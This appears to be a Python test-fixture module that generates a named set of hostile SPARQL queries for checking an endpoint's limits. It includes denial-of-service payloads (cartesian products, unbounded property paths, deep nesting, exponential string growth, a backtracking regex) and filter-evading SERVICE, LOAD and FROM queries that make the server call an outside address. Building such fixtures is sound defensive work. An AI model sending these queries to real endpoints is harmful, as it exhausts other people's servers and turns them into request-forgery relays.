"""SPARQL texts made to take a server's time, memory, disk or connections, by what they try."""

from __future__ import annotations

from collections.abc import Callable

ANY = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n ?o "
MIB = 95_000  # a text just below what the endpoint reads


def doubled(step: str, times: int) -> str:
    """``BIND`` after ``BIND``, each made from the variable before it."""
    return "".join(
        f"BIND({step.replace('$', f'?x{number}')} AS ?x{number + 1}) " for number in range(times)
    )


def tower(inner: str, opening: str, closing: str, height: int) -> str:
    """``inner`` within ``height`` times opening and closing."""
    return opening * height + inner + closing * height


def products(address: str) -> dict[str, str]:
    """More rows than one can count."""
    del address
    return {
        "product": f"SELECT * {{ {ANY} }}",
        "product-count": f"SELECT (COUNT(*) AS ?z) {{ {ANY} }}",
        "product-distinct": f"SELECT DISTINCT ?a ?d ?g ?j {{ {ANY} }}",
        "product-order": f"SELECT * {{ {ANY} }} ORDER BY ?o ?l ?i DESC(?f) STR(?c)",
        "product-group": f"SELECT ?a ?d ?g (COUNT(*) AS ?z) {{ {ANY} }} GROUP BY ?a ?d ?g",
        "product-sample": f"SELECT (AVG(STRLEN(STR(?c))) AS ?z) (MAX(?f) AS ?y) {{ {ANY} }}",
        "product-offset": f"SELECT * {{ {ANY} }} OFFSET 9000000000 LIMIT 1",
        "construct": f"CONSTRUCT {{ ?a ?e ?i . ?d ?h ?c . ?g ?b ?l . [] ?k ?o }} {{ {ANY} }}",
        "describe-all": "DESCRIBE * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
        "cross-filter": "SELECT (COUNT(*) AS ?z) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l "
        "FILTER(STRLEN(CONCAT(STR(?c), STR(?f), STR(?i), STR(?l))) = 7) }",
        "random": f"SELECT * {{ {ANY} FILTER(RAND() > 2) }} ORDER BY RAND()",
    }


def paths(address: str) -> dict[str, str]:
    """Walks without end."""
    del address
    return {
        "path-any": "SELECT (COUNT(*) AS ?z) { ?a (!<e:x>)* ?b . ?b (!<e:y>)* ?c . "
        "?c (!<e:z>)* ?d . ?d (!<e:w>)* ?e }",
        "path-nested-stars": "SELECT * { ?a ((((!<e:x>)*)*)+)* ?b . ?b (^(!<e:x>)|!<e:y>)* ?c . "
        "?c ((!<e:q>)+/(!<e:r>)+)* ?d }",
        "path-long": "ASK { ?s " + "!<e:p>/" * 9000 + "!<e:p> ?o }",
        "path-ranges": "SELECT * { ?s <e:p>{1,1000000} ?o }",
        "path-optional": "SELECT (COUNT(*) AS ?z) { ?a " + "(!<e:x>)?/" * 40 + "!<e:x> ?b }",
        "path-alternatives": "SELECT (COUNT(*) AS ?z) { ?a ("
        + "|".join(f"!<e:{number}>" for number in range(3000))
        + ")+ ?b . ?b !<e:x>+ ?c . ?c !<e:x>+ ?d }",
    }


def ladders(address: str) -> dict[str, str]:
    """Patterns in patterns."""
    del address
    return {
        "braces": "SELECT * " + tower("?s ?p ?o", "{ ", " }", 20_000),
        "braces-allowed": "SELECT * " + tower("?s ?p ?o", "{ ", " }", 120),
        "parentheses": "ASK { FILTER(" + tower("1", "(", ")", 20_000) + ") }",
        "subqueries": "SELECT * " + tower(f"{{ {ANY} }}", "{ SELECT DISTINCT * ", " }", 100),
        "unions": "SELECT (COUNT(*) AS ?z) { " + "{ ?a ?b ?c } UNION " * 3000 + f"{{ {ANY} }} }}",
        "union-product": "SELECT (COUNT(*) AS ?z) { "
        + "".join(f"{{ ?s{n} ?p ?o{n} }} UNION {{ ?o{n} ?p ?s{n} }} " for n in range(60))
        + "}",
        "optionals": "SELECT * { ?s ?p ?o "
        + "".join(f"OPTIONAL {{ ?s{n} ?p{n} ?o{n} }} " for n in range(500))
        + "}",
        "exists": "ASK { ?a ?b ?c "
        + tower("?x ?y ?z ", "FILTER NOT EXISTS { ?s ?p ?o ", "}", 110)
        + "}",
        "minus": "SELECT * { ?a ?b ?c " + "MINUS { ?a ?q ?r . ?t ?u ?v . ?x ?y ?z } " * 200 + "}",
    }


def expressions(address: str) -> dict[str, str]:
    """Small texts with big values, and long ways to a short value."""
    del address
    start = 'BIND("xxxxxxxx" AS ?x0) '
    return {
        "concat": f"SELECT (STRLEN(?x40) AS ?z) {{ {start}{doubled('CONCAT($, $)', 40)} }}",
        "replace": "SELECT (STRLEN(?x12) AS ?z) { "
        + start
        + doubled('REPLACE($, "x", "xxxxxxxxxxxxxxxx")', 12)
        + "}",
        "group-concat": "SELECT (STRLEN(GROUP_CONCAT(CONCAT(STR(?c), STR(?f)); separator='"
        + "-" * 1000
        + f"')) AS ?z) {{ {ANY} }}",
        "encode": "SELECT (STRLEN(?x20) AS ?z) { "
        + start
        + doubled("ENCODE_FOR_URI(CONCAT($, '%%%%%%%%'))", 20)
        + "}",
        "hashes": f"SELECT (SHA512(GROUP_CONCAT(SHA512(STR(?c)))) AS ?z) {{ {ANY} }}",
        "if": "SELECT (" + tower("1", "IF(true, ", ", 0)", 120) + " AS ?z) { }",
        "not": "ASK { FILTER(" + "!" * MIB + "true) }",
        "sum": "ASK { FILTER(" + "1+" * (MIB // 2) + "1 > 0) }",
        "regex": f'ASK {{ BIND("{"x" * 90_000}" AS ?x) FILTER(REGEX(?x, "^(x+x+)+y$")) }}',
        "regex-counted": 'ASK { ?a ?b ?c FILTER(REGEX(STR(?c), "((a{0,999}){0,999}){0,999}")) }',
        "binds": f"SELECT * {{ {ANY} BIND(1 AS ?x0) {doubled('$ + 1', 2500)} }}",
        "numbers": "SELECT (" + "9" * 90_000 + " * " + "9" * 1000 + ".5e999 AS ?z) { }",
    }


def outward(address: str) -> dict[str, str]:
    """Ways to make the server call ``address``."""
    return {
        "service": f"SELECT * {{ SERVICE <{address}> {{ ?s ?p ?o }} }}",
        "service-escaped": f"SELECT * {{ \\u0053ERVICE <{address}> {{ ?s ?p ?o }} }}",
        "service-after-comment": f"SELECT * {{ #}}\rSERVICE SILENT <{address}> {{ ?s ?p ?o }} }}",
        "service-in-prefix": f"PREFIX SERVICE: <{address}> SELECT * {{ service<{address}>{{}} }}",
        "service-bound": f"SELECT * {{ BIND(<{address}> AS ?e) sErViCe ?e {{ ?s ?p ?o }} }}",
        "from": f"SELECT * FROM <{address}> FROM NAMED <{address}2> {{ ?s ?p ?o }}",
        "load": f"LOAD <{address}>",
        "load-after": f"ASK {{ }} ; LOAD <{address}> INTO GRAPH <e:g>",
        "insert": f"PREFIX a: <e:> # SELECT\nINSERT {{ ?s ?p <{address}> }} WHERE {{ ?s ?p ?o }}",
    }


def odd_texts(address: str) -> dict[str, str]:
    """Texts at the edge of what a text is."""
    del address
    return {
        "values": "SELECT * { VALUES ?x { " + "1 " * (MIB // 2) + "} ?a ?b ?c . ?d ?e ?f }",
        "values-rows": "SELECT * { VALUES (?a ?b) { " + "(UNDEF UNDEF) " * 6000 + "} ?a ?b ?c }",
        "long-iri": "ASK { <e:" + "x" * MIB + "> ?p ?o }",
        "prefixes": "".join(f"PREFIX p{n}: <e:{n}/> " for n in range(4500)) + "ASK { ?s p1:x ?o }",
        "nul": "ASK { ?s ?p \x00 ?o }",
        "bom": "\ufeffASK { ?s ?p ?o }",
        "returns-only": "ASK\r{\r?s ?p ?o # }\r}",
        "escapes": 'ASK { ?s ?p "\\U0010FFFF\\uD800\\u0000" . ?s \\u003Ce:x\\u003E ?o }',
        "comments": "#" * 40_000 + "\n" + "# SELECT {\r\n" * 4000 + "ASK { ?s ?p ?o }",
        "quotes": "ASK { ?s ?p " + '"""' + '""\\"' * 20_000,
        "variables": "SELECT " + " ".join(f"?v{n}" for n in range(8000)) + " { ?s ?p ?o }",
        "brackets": "ASK { ?s ?p " + "[ ?p " * 120 + "?o" + " ]" * 120 + " }",
        "lists": "ASK { ?s ?p " + tower("1", "( ", " )", 120) + " }",
    }


KINDS: tuple[Callable[[str], dict[str, str]], ...] = (
    products,
    paths,
    ladders,
    expressions,
    outward,
    odd_texts,
)


def hostile_queries(address: str) -> dict[str, str]:
    """All of them by name; ``address`` is a URL that none may make the server call."""
    return {name: text for kind in KINDS for name, text in kind(address).items()}
